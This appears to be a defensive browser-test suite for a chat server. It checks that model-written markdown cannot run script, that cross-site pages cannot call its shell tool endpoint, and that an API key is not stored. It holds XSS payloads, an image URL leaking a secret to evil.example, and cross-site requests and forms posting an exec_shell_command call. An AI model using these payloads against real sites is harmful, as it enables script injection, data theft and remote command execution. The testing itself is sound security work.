"""What a model writes or another site sends cannot do anything, and the key is not kept."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx2
import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route
from tests.page.support import Window, expect, worker_that_writes
from tests.server.serving import serving, serving_app

from headstart.config import ServerConfig, ToolsConfig
from headstart.server.extra_routes import load_extras

HOSTILE = """<script>document.title = "owned"</script>
<img src=x onerror="document.title = 'owned'">
<svg onload="document.title = 'owned'"></svg>
<iframe srcdoc="<script>parent.document.title = 'owned'</script>"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example"><button>Send</button></form>
<a href="#" style="position:fixed;inset:0">cover</a>

[link](javascript:document.title='owned') [data](data:text/html,<script>alert(1)</script>)
![picture](https://evil.example/leak.png?secret) [fine](https://example.com "title")

[ref]

[ref]: javascript:document.title='owned'

```html"onmouseover="document.title='owned'
</code><img src=x onerror="document.title = 'owned'">
```

<b onmouseover="document.title='owned'">hover</b> &lt;img src=x onerror=alert(1)&gt;
"""


def test_hostile_markdown_does_nothing(window: Window) -> None:
    window.show(worker_that_writes(HOSTILE))
    answer = window.ask("Go on")
    page = window.page
    for selector in ("script", "img", "svg:not(.icon)", "iframe", "style", "form", "[onerror]"):
        expect(answer.locator(f".text {selector}")).to_have_count(0)
    expect(answer.locator(".text [style]")).to_have_count(0)
    links = answer.locator(".text a[href]")
    expect(links).to_have_count(2)
    image = "https://evil.example/leak.png?secret"  # it is not loaded
    expect(links.first).to_have_attribute("href", image)
    expect(links.first).to_have_attribute("rel", "noopener noreferrer")
    expect(links.last).to_have_attribute("href", "https://example.com")
    answer.get_by_text("hover").first.hover()
    assert page.title() == "Headstart"
    assert page.evaluate("getComputedStyle(document.body).display") == "grid"


def test_the_policy_stops_scripts_that_got_in_anyway(window: Window) -> None:
    window.expected = ("Content Security Policy", "violates", "TrustedHTML", "TrustedScript")
    window.show()
    blocked = window.page.evaluate(
        "() => { try { document.body.innerHTML = '<p>x</p>'; return false }"
        " catch (error) { return error instanceof TypeError } }"
    )
    assert blocked
    blocked = window.page.evaluate(
        "() => { try { document.body.setAttribute('onclick', 'document.title = 1'); }"
        " catch (error) { return error instanceof TypeError } }"
    )
    assert blocked
    assert window.page.title() == "Headstart"


def test_the_key_is_asked_for_once_and_kept_for_the_session_only(window: Window) -> None:
    window.expected = ("401 (Unauthorized)",)
    with serving(worker_that_writes("Hello"), ServerConfig(api_key="secret")) as client:
        page = window.page
        page.goto(str(client.base_url))
        expect(page.locator("#key-dialog")).to_be_visible()
        page.keyboard.press("Escape")  # nothing goes on without a key
        page.keyboard.press("Escape")
        page.get_by_label("Key", exact=True).fill("wrong")
        page.get_by_role("button", name="Continue").click()
        page.get_by_text("The server does not know this key.").wait_for()
        page.get_by_label("Key", exact=True).fill("secret\u2026")  # no header can hold it
        page.get_by_role("button", name="Continue").click()
        expect(page.get_by_label("Key", exact=True)).to_have_value("")
        page.get_by_label("Key", exact=True).fill("secret")
        page.get_by_role("button", name="Continue").click()
        window.is_ready()
        expect(window.ask("Go on")).to_contain_text("Hello")
        window.reload()
        expect(page.locator("#key-dialog")).to_be_hidden()
        kept = page.evaluate("JSON.stringify([{...localStorage}, document.cookie])")
        assert "secret" not in kept
        other = page.context.new_page()  # another tab is another session
        other.goto(str(client.base_url))
        other.locator("#key-dialog").wait_for()


CALL = '{"tool": "exec_shell_command", "params": {"command": "touch %s"}}'
# what the proxy would bring into the server's origin
SCRIPT = """<script>
fetch("/tools", {method: "POST", headers: {"Content-Type": "application/json"}, body: CALL})
  .then((response) => document.title = "tools " + response.status)
</script>"""


@contextmanager
def another_site(pages: dict[str, str]) -> Iterator[str]:
    """Serves pages as http://evil.example:PORT."""
    page = Route("/{path:path}", lambda request: HTMLResponse(pages.get(request.url.path, "")))
    with serving_app(Starlette(routes=[page])) as address:
        yield address.replace("127.0.0.1", "evil.example")


@pytest.fixture
def victim(monkeypatch: pytest.MonkeyPatch) -> Iterator[httpx2.Client]:
    """A server with everything on that a page of its own may use."""
    with serving(extras=load_extras(ToolsConfig(tools="all", ui_mcp_proxy=True), {})) as client:
        yield client


def test_a_navigation_to_the_proxy_runs_no_script(window: Window, victim: httpx2.Client, tmp_path):
    window.expected = ("403",)
    mark = tmp_path / "owned"
    pages = {"/x.html": SCRIPT.replace("CALL", repr(CALL % mark))}
    with another_site(pages) as evil:
        page = window.page
        pages["/"] = f"<script>location = '{victim.base_url}/cors-proxy?url={evil}/x.html'</script>"
        page.goto(evil)
        page.get_by_text("Sec-Fetch-Site").wait_for()
        page.wait_for_timeout(300)
        assert not page.title().startswith("tools")
        assert not mark.exists()


@pytest.mark.parametrize("kind", ["text/plain", "application/json"])
def test_a_script_elsewhere_calls_no_tool_and_reads_nothing(window, victim, tmp_path, kind) -> None:
    window.expected = ("403", "415", "CORS", "Failed to load", "ERR_FAILED")
    mark = tmp_path / "owned"
    with another_site({"/": "<p>here</p>"}) as evil:
        page = window.page
        page.goto(evil)
        said = page.evaluate(
            """async ([url, body, kind]) => {
              const headers = {"Content-Type": kind};
              const ask = (path, options) => fetch(url + path, options)
                .then(async (response) => response.type + await response.text(), () => "refused");
              const simple = {mode: "no-cors", method: "POST", body};
              return [await ask("/tools", {method: "POST", body, headers}),
                await ask("/tools", simple), await ask("/props"), await ask("/tools")];
            }""",
            [str(victim.base_url).rstrip("/"), CALL % mark, kind],
        )
        assert said == ["refused", "opaque", "refused", "refused"]
        assert not mark.exists()


def test_an_image_and_a_form_elsewhere_change_nothing(window, victim, tmp_path) -> None:
    window.expected = ("403", "415", "ERR_BLOCKED", "Failed to load")
    mark = tmp_path / "owned"
    form = (
        f'<img src="{victim.base_url}/slots"><form method="post" enctype="text/plain" '
        f'action="{victim.base_url}/tools"><input name=\'{CALL % mark}\' value=""></form>'
        "<script>document.forms[0].submit()</script>"
    )
    with another_site({"/": form}) as evil:
        page = window.page
        page.goto(evil)
        page.get_by_text("error").wait_for()
        assert not mark.exists()


def test_our_own_page_does_call_them(victim: httpx2.Client, tmp_path: Path) -> None:
    """Else the tests above would show nothing."""
    mark = tmp_path / "owned"
    own = {"Sec-Fetch-Site": "same-origin", "Content-Type": "application/json"}
    answer = victim.post("/tools", content=CALL % mark, headers=own)
    assert (answer.status_code, mark.exists()) == (200, True)
